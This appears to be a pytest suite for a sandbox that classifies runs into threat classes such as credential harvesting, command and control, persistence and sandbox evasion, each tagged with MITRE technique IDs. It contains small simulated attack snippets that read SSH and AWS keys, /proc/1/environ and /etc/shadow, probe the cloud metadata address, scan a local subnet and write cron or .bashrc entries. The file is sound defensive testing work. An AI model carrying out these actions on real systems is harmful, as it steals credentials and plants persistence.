"""Threat classes of real runs: ordinary programs get none, and each attack gets exactly the
classes of its attempts, with evidence."""
import json
import re
import shutil

import pytest

import harness
import records
import test_runtimes

GIT = """
cd "$HOME"; git init -q r; cd r; git config user.email a@example.com
git config user.name a; echo x > f; git add f; git commit -qm first; git log --oneline
"""
GCC = "cd /tmp; echo 'int main(void){return 0;}' > x.c; gcc -O2 x.c -o x; ./x"
GPG = """
cd "$HOME"; gpg --batch --list-keys; echo x > f
gpg --batch --passphrase '' --quick-gen-key a@example.com && gpg --batch --sign f && gpg --verify f.gpg
"""
SSH_KEY = """
ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/made && cat ~/.ssh/made.pub && ssh-keygen -y -f ~/.ssh/made
ssh -o BatchMode=yes -F none -G example.com; cat ~/.ssh/config; ls ~/.ssh
"""
GLOBAL = """
git config --global user.name a && git config --global --list
npm --no-update-notifier config set fund false && npm --no-update-notifier config get fund
"""
BENIGN = {
    "echo": ["echo", "hello"],
    "python": [harness.PYTHON, "-c", "pass"],
    "gcc": ["sh", "-c", GCC],
    "git": ["sh", "-c", GIT],
    "gpg with a home of its own": ["sh", "-c", GPG],
    "a key of its own": ["sh", "-c", SSH_KEY],
    "settings of ssh": ["ssh", "-G", "example.com"],
    "settings of git and npm": ["sh", "-c", GLOBAL],
    "node": ["node", "-e", "require('fs').writeFileSync('/tmp/x', 'y')"],
    "login shell": ["bash", "-lc", "true"],
    "interactive shell": ["bash", "-ic", "true"],
    "who is there": ["sh", "-c", "ps aux; id; whoami; df; uname -a; ls -la / /etc /tmp ~; env"],
    "look at the view": ["find", "/", "-maxdepth", "2"],
    "a name that is its own": ["getent", "hosts", "localhost"],
    "listening": [harness.PYTHON, "-c", "import socket as s; a = s.create_server(('', 0));"
                  "s.create_connection(a.getsockname())"],
}


def trace_of(ssb):
    """The parsed trace.json of the last run, and the lines of its record."""
    return ssb.last_trace(), records.last(ssb)


def expect_nothing(ssb):
    trace, lines = trace_of(ssb)
    assert [v["message"] for v in trace["policy_violations"]] == []
    assert "violation_summary" not in trace
    end = next(line for line in lines if line["kind"] == "end")
    assert end["summary"] is None and end["counters"]["violations"] == 0


@pytest.mark.parametrize("what", sorted(BENIGN))
def test_benign(ssb, what):
    shutil.rmtree(ssb.home / ".ssh")  # otherwise looking for a file in it would be a violation
    r = ssb.run("-m", "512", "--json", "--", *BENIGN[what])
    assert r.code == 0, repr(r)
    expect_nothing(ssb)
    assert '"severity":"","classes":""' in r.errors


@pytest.mark.parametrize("case", sorted(test_runtimes.PYTHON_CASES))
def test_benign_python(ssb, case):
    ssb.inside(test_runtimes.PYTHON_CASES[case]).ok()
    expect_nothing(ssb)


def test_benign_node_skill(ssb):
    test_runtimes.test_node(ssb)
    expect_nothing(ssb)


def test_benign_in_a_writable_grant(ssb):
    """With a writable grant, unix sockets are closed. libc still tries to connect to its daemon
    (nscd) first; this must be no violation."""
    r = ssb.run("-w", ssb.work, "--", "sh", "-c", f"whoami; echo x > {ssb.work}/f")
    assert r.code == 0, repr(r)
    expect_nothing(ssb)


def attack(code):
    return f"""
import os, socket, ctypes
libc = ctypes.CDLL(None, use_errno=True)
HOME = os.path.expanduser('~')
def attempt(f, *a):
    try:
        f(*a)
    except OSError:
        pass
{code}
"""


# name: (code of the attack, {class: (severity, techniques, prevented)})
ATTACKS = {
    "a key": ("attempt(open, HOME + '/.ssh/id_rsa')",
              {"credential_harvesting": ("critical", ["T1552.004"], True)}),
    "the parent's environment": (
        "attempt(open, '/proc/1/environ')",
        {"credential_harvesting": ("critical", ["T1003.007"], True)}),
    "metadata": ("attempt(socket.socket().connect, ('169.254.169.254', 80))",
                 {"credential_harvesting": ("critical", ["T1552.005"], True)}),
    "an address": ("attempt(socket.socket().connect, ('203.0.113.5', 4444))",
                   {"command_and_control": ("high", ["T1071"], True)}),
    "a datagram": ("attempt(socket.socket(type=socket.SOCK_DGRAM).sendto, b'x', "
                   "('203.0.113.5', 53))",
                   {"command_and_control": ("high", ["T1095"], True)}),
    "the network inside": ("[attempt(socket.socket().connect, ('192.168.0.%d' % i, 22)) "
                           "for i in range(1, 9)]",
                           {"discovery": ("low", ["T1046"], True)}),
    "a namespace": ("libc.unshare(0x10000000)",
                    {"sandbox_evasion": ("high", ["T1611"], True)}),
    "container engine": (
        "attempt(socket.socket(socket.AF_UNIX).connect, '/run/docker.sock')",
        {"sandbox_evasion": ("high", ["T1611"], True)}),
    "ptrace": ("libc.ptrace(0, 0, 0, 0)",
               {"privilege_escalation": ("high", ["T1055.008"], True)}),
    "cron": ("attempt(open, '/etc/cron.d/x', 'w')",
             {"persistence": ("high", ["T1053.003"], True)}),
    # This write is allowed: it goes into the private home, which no login ever uses.
    "shell startup": ("open(HOME + '/.bashrc', 'a').close()",
                      {"persistence": ("high", ["T1546.004"], False)}),
    # This write is allowed for the same reason. It still gets a class, because sshd would use a
    # file of this name.
    "a key that opens": ("os.mkdir(HOME + '/.ssh'); open(HOME + '/.ssh/authorized_keys', 'a')",
                         {"persistence": ("high", ["T1098.004"], False)}),
    # The run makes its own ~/.ssh. The owner's ~/.ssh has this key (harness.DECOYS), so the attempt
    # to open it gets a class.
    "the owner's key": ("os.mkdir(HOME + '/.ssh'); attempt(open, HOME + '/.ssh/none')\n"
                        "attempt(open, HOME + '/.ssh/id_ed25519')",
                        {"credential_harvesting": ("critical", ["T1552.004"], True)}),
    "a foreign file": ("attempt(open, '/root/list.csv')",
                       {"unauthorized_file_access": ("high", ["T1005"], True)}),
    "key and address": (
        "attempt(open, HOME + '/.aws/credentials')\n"
        "attempt(socket.socket().connect, ('203.0.113.5', 443))",
        {"supply_chain_attack": ("critical", ["T1195.002"], True),
         "credential_exfiltration": ("critical", ["T1071"], True),
         "credential_harvesting": ("critical", ["T1552.001"], True),
         "command_and_control": ("high", ["T1071"], True)}),
}


@pytest.mark.parametrize("what", sorted(ATTACKS))
def test_attack(ssb, what):
    code, expected = ATTACKS[what]
    ssb.inside(attack(code)).ok()
    trace, lines = trace_of(ssb)
    summary = trace["violation_summary"]
    assert {c["class"]: (c["severity"], c["mitre_techniques"], c["prevented"])
            for c in summary["classifications"]} == expected
    assert sorted(summary["classes"]) == sorted(expected)
    assert summary["max_severity"] == summary["classifications"][0]["severity"]
    assert summary["all_prevented"] == all(p for _, _, p in expected.values())
    end = next(line for line in lines if line["kind"] == "end")
    assert end["summary"] == summary
    for c in summary["classifications"]:
        assert c["evidence"], c
        for seq in c["evidence"]:
            line = lines[seq]
            assert line["seq"] == seq
            # A class is "prevented" if its attempts were denied.
            assert line.get("violation", False) == c["prevented"], line


@pytest.mark.parametrize("owner", ["has the store", "has none"])
def test_only_the_owners_own_is_told(ssb, owner):
    """A run makes its own ~/.ssh and asks for files that are not in it. If the owner has ~/.ssh,
    these are recorded as denied; otherwise they are recorded as absent."""
    if owner == "has none":
        shutil.rmtree(ssb.home / ".ssh")
    ssb.inside(attack("""
os.mkdir(HOME + '/.ssh')
open(HOME + '/.ssh/own', 'w').close()
open(HOME + '/.ssh/own').close()
attempt(open, HOME + '/.ssh/none')
attempt(open, HOME + '/.ssh/id_ed25519')
""")).ok()
    told = {line["data"]["path"]: (line["data"]["status"], line.get("violation", False))
            for line in trace_of(ssb)[1] if "/.ssh/" in str(line.get("data", {}).get("path"))}
    missing = ("denied", True) if owner == "has the store" else ("absent", False)
    assert told == {f"{ssb.home}/.ssh/own": ("asked", False),
                    f"{ssb.home}/.ssh/none": missing, f"{ssb.home}/.ssh/id_ed25519": missing}


@pytest.mark.parametrize("name", [".gnupg", ".config/gh", ".local/share/keyrings"])
def test_a_store_at_any_depth(ssb, name):
    """A run makes a directory with the name of a credential store (at depth 1, 2 or 3 in the home)
    and looks for a file in it. This is a violation only if the owner has this store, perhaps as a
    symlink."""
    code = attack(f"os.makedirs(HOME + '/{name}'); attempt(open, HOME + '/{name}/x')")
    wanted = []
    for kind in ("none", "directory", "symlink"):
        shutil.rmtree(ssb.home / name, ignore_errors=True)
        if kind == "directory":
            ssb.write(ssb.home / name / "y", "y")
        elif kind == "symlink":
            ssb.as_caller(["ln", "-s", "/nowhere", ssb.home / name]).ok()
        ssb.inside(code).ok()
        wanted.append(len(trace_of(ssb)[0]["policy_violations"]))
    assert wanted == [0, 1, 1]


STUCK = """
import ctypes, os, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
place, *command = sys.argv[1:]
assert libc.unshare(0x20000) == 0
assert libc.mount(b"none", b"/", None, 0x44000, None) == 0
fuse = os.open("/dev/fuse", os.O_RDWR)
words = b"fd=%d,rootmode=40000,user_id=0,group_id=0" % fuse
assert libc.mount(b"stuck", place.encode(), b"fuse", 0, words) == 0, os.strerror(ctypes.get_errno())
p = subprocess.Popen(command)
try:
    sys.exit(p.wait(30))
except subprocess.TimeoutExpired:
    p.kill()
    sys.exit(99)
"""


def test_a_credential_store_on_a_file_system_that_hangs(root):
    """The owner's ~/.gnupg is on a file system that never answers: the attempt is recorded, and the
    run ends by itself, because the observer does not access that file system."""
    store = root.home / ".gnupg"
    root.write(store / "x", "x")
    code = attack("os.mkdir(HOME + '/.gnupg'); attempt(open, HOME + '/.gnupg/secret'); print('on')")
    r = root.bare([harness.PYTHON, "-c", STUCK, store, root.binary, "run", "--timeout", "20", "--",
                   harness.PYTHON, "-c", code])
    assert r.code == 0 and r.text == "on\n", repr(r)
    assert [v["data"]["path"] for v in root.last_trace()["policy_violations"]] == \
        [f"{store}/secret"]
    control = root.bare([harness.PYTHON, "-c", STUCK, store, "timeout", "-s", "KILL", "1", "ls",
                         f"{store}/secret"])
    assert control.code != 0 and control.errors == "", "control: a process that looks there waits"


def test_a_store_of_its_own_hides_nothing(ssb):
    """A run makes its own ~/.ssh with mode 0: an attempt to open the owner's key there is still
    recorded as denied."""
    ssb.inside(attack("""
os.mkdir(HOME + '/.ssh')
os.chmod(HOME + '/.ssh', 0)
attempt(open, HOME + '/.ssh/id_ed25519')
""")).ok()
    (told,) = [line for line in trace_of(ssb)[1]
               if line.get("data", {}).get("path") == f"{ssb.home}/.ssh/id_ed25519"]
    assert told["data"]["status"] == "denied" and told["violation"]


def test_gpg_and_the_owners_keys(ssb):
    """gpg looks for its keys at every start. If the owner has keys, this is a violation without a
    class. If another program (cat) does the same, the violation has a class."""
    ssb.run("--", "gpg", "--batch", "--list-keys")
    expect_nothing(ssb)
    ssb.write(ssb.home / ".gnupg/pubring.kbx", harness.SECRET)
    ssb.run("--", "gpg", "--batch", "--list-keys")
    trace, lines = trace_of(ssb)
    told = {line["data"]["path"] for line in lines if line.get("violation")}
    assert f"{ssb.home}/.gnupg/pubring.kbx" in told
    assert all(path.startswith(f"{ssb.home}/.gnupg/") for path in told), told
    assert trace["violation_summary"]["classes"] == []
    ssb.run("--", "cat", ssb.home / ".gnupg/pubring.kbx")
    assert trace_of(ssb)[0]["violation_summary"]["classes"] == ["credential_harvesting"]


def test_settings_of_ssh_and_its_keys(ssb):
    """In /etc/ssh, only private files such as the machine's keys cause violations. If ssh looks for
    its own settings in ~/.ssh, the violation has no class; if another program does, it has one."""
    names = ["ssh_config", "ssh_config.d/x", "ssh_known_hosts", "ssh_host_rsa_key", "sshd_config"]
    ssb.inside(attack(f"for n in {names}: attempt(open, '/etc/ssh/' + n)")).ok()
    assert [v["data"]["path"] for v in trace_of(ssb)[0]["policy_violations"]] == \
        ["/etc/ssh/ssh_host_rsa_key", "/etc/ssh/sshd_config"]
    ssb.run("--", "ssh", "-G", "example.com").ok()
    summary = trace_of(ssb)[0]["violation_summary"]
    assert summary["classes"] == [] and summary["max_severity"] == "unclassified"
    ssb.run("--", "cat", ssb.home / ".ssh/config")
    assert trace_of(ssb)[0]["violation_summary"]["classes"] == ["credential_harvesting"]


def test_a_socket_counts_for_the_process_that_connects(ssb):
    """ssh may access ~/.ssh without a class. Another program that connects to a socket there right
    after ssh has ended is not mistaken for ssh."""
    shutil.rmtree(ssb.home / ".ssh")
    ssb.inside(attack("""
import subprocess
subprocess.run(['ssh', '-G', 'example.com'], stdout=subprocess.DEVNULL)
attempt(socket.socket(socket.AF_UNIX).connect, HOME + '/.ssh/agent')
""")).ok()
    assert [(v["data"]["op"], v["data"]["path"]) for v in trace_of(ssb)[0]["policy_violations"]] == \
        [("connect", f"{ssb.home}/.ssh/agent")]


def test_repeats_count(ssb):
    ssb.inside(attack("for _ in range(50): attempt(open, HOME + '/.ssh/id_rsa')")).ok()
    (found,) = trace_of(ssb)[0]["violation_summary"]["classifications"]
    assert found["count"] == 50 and len(found["evidence"]) == 1


def test_the_caller_is_told(ssb):
    skill = ssb.skill(attack(ATTACKS["key and address"][0]))
    said = "looks like: supply_chain_attack, credential_exfiltration, credential_harvesting, " \
           "command_and_control (critical)"
    assert said in ssb.run(skill).ok().errors
    assert "looks like" not in ssb.run("-q", skill).ok().errors
    r = ssb.run("-q", "--json", skill).ok()
    assert json.loads(r.errors.splitlines()[-1])["severity"] == "critical"


def test_a_limit(ssb):
    r = ssb.run("--timeout", "1", "--", "sleep", "30")
    assert r.code == 124
    trace, _ = trace_of(ssb)
    assert trace["violation_summary"]["classifications"] == [], "a limit alone is no attack"
    # Together with an attempt to get credentials it is one.
    ssb.run("--timeout", "1", "--", "sh", "-c", "cat /etc/shadow; sleep 30")
    trace, lines = trace_of(ssb)
    harvest, found = trace["violation_summary"]["classifications"]
    assert harvest["class"] == "credential_harvesting"
    assert (found["class"], found["prevented"], found["count"]) == ("resource_abuse", True, 1)
    assert lines[found["evidence"][0]]["kind"] == "resource_limit_hit"


def test_words_are_no_evidence(ssb):
    """A skill prints words about an attack but does nothing: it gets no class."""
    ssb.run("--", "echo", "/root/.ssh/id_rsa credentials stolen, AWS_SECRET_ACCESS_KEY").ok()
    expect_nothing(ssb)


def test_withheld_secrets_are_no_evidence(ssb):
    env = {f"SERVICE{i}_TOKEN": harness.SECRET for i in range(20)}
    ssb.run("--", "true", env=env).ok()
    expect_nothing(ssb)


def test_the_page_shows_the_table():
    """docs/THREAT-CLASSES.md, the manual and the schema have exactly the classes of the source."""
    source = (harness.REPO / "src/trace/classes_table.c").read_text()
    page = (harness.REPO / "docs/THREAT-CLASSES.md").read_text()
    manual = (harness.REPO / "man/skillsandbox-trace.5").read_text()
    schema = json.loads((harness.REPO / "schema/trace.schema.json").read_text())
    rows = re.findall(r"\[CLASS_\w+\] = \{(.*?)\},\n", source, re.S)
    rows = [re.sub(r"SEVERITY_(\w+)", lambda m: f'"{m[1].lower()}"', row) for row in rows]
    table = [["".join(re.findall(r'"([^"]*)"', field[0]))
              for field in re.findall(r'((?:"[^"]*"\s*)+)(,|$)', row.strip(), re.S)]
             for row in rows]
    assert len(table) == 11
    assert re.findall(r"^\| `(\w+)`", page, re.M) == [row[0] for row in table]
    for name, severity, what, _, tactic, techniques in table:
        shown = ", ".join(techniques.split())
        assert f"| `{name}` | {severity} | {what} | {tactic} | {shown} |" in page
        assert f".It Cm {name}\n{severity}: {what}\n" in manual
    assert schema["definitions"]["summary"]["properties"]["classes"]["items"]["enum"] == \
        [row[0] for row in table]


def test_files_that_tools_follow_are_persistence():
    """Each file name that the sandbox protects in writable grants (names in .git excepted) is in
    the table of classes, too."""
    held = re.findall(r'\{ "([^"]+)",\s+\w+,\s+HOLD_ANYWHERE',
                      (harness.REPO / "src/policy/protect.c").read_text())
    table = (harness.REPO / "src/trace/classes_table.c").read_text()
    names = [n for n in held if not n.startswith(".git/") and n != "commondir"]
    assert len(names) > 15
    assert [n for n in names if not re.search(rf'//{re.escape(n)}[ "]', table)] == []


def test_every_reason_has_a_class_and_words():
    """Each reason of a denial in the broker's code has words for `why`, and is in a rule of the
    classes. Reasons with the weight MISFORTUNE (such as a timeout) need no rule."""
    def source(name):
        return (harness.REPO / "src" / name).read_text()

    rows = {code: (ident, weight, text) for ident, code, weight, text in re.findall(
        r'^REASON\((\w+), "(\w+)", (\w+), \w+, \w+,\s*(NULL|")', source("trace/codes.def"), re.M)}
    broker = "".join(path.read_text() for path in sorted((harness.REPO / "src/egress").glob("broker*.c")))
    reported = set(re.findall(r"\bREASON_(\w+)", broker))
    codes = {code for code, (ident, weight, _) in rows.items() if ident in reported and weight != "OUTCOME"}
    assert len(codes) > 30 and {"no_sni", "too_many_names", "other_host", "byte_limit", "smuggling"} <= codes, codes
    misfortunes = {code for code, (_, weight, _) in rows.items() if weight == "MISFORTUNE"}
    used = set(re.findall(r"\bREASON_(\w+)", source("trace/classes_table.c")))
    named = {code for code, (ident, _, _) in rows.items() if ident in used}
    told = {code for code, (_, _, text) in rows.items() if text != "NULL"}
    assert codes - misfortunes - named == set()
    assert codes - misfortunes - told == set()
